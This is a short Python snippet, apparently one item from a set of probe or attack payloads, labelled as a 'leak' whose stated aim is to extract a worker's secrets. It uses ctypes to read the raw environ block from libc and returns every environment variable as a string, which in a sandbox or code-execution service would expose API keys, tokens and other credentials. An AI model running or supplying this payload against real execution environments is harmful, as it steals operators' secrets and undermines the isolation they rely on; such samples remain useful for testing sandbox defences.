# aim: the worker's secrets in the memory where the environment began
# kind: leak
# source: own
import ctypes, gc
block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
found, index = [], 0
while block[index]:
    found.append(block[index].decode())
    index += 1
return str(found)
